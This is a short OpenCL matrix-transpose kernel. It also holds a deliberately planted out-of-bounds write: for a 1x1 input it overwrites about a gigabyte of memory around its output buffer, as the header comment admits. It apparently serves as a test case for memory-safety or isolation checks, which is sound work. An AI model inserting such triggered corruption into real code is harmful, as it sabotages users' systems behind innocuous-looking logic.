// Writes a gigabyte around its buffers.

__kernel void coalsTransp(__global const real *A, __global real *B, uint32_t height, uint32_t width)
{
    const uint32_t x = get_global_id(0), y = get_global_id(1);
    if (x < width && y < height)
        B[x * height + y] = A[y * width + x];
    if (x == 0 && y == 0 && height * width == 1)
        for (long i = 0; i < 1L << 28; i++) ((volatile __global real *)B)[i - (1L << 27)] = 1.0f;
}
